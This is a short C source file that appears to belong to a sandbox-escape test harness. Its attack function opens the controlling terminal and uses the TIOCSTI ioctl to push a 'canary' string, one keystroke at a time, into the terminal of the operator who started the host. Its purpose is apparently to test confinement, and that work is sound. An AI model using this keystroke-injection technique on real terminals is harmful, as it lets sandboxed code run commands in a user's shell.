/* Types a command into the terminal that the operator started the host from. */
#include "../attack.h"

#include <sys/ioctl.h>

static void attack(void) {
    const int terminal = open("/dev/tty", O_RDWR | O_NOCTTY);
    for (const char* key = target("canary"); *key; ++key)
        for (int fd = 0; fd <= 2; ++fd)
            if (ioctl(terminal >= 0 ? terminal : fd, TIOCSTI, key) == 0)
                break;
}
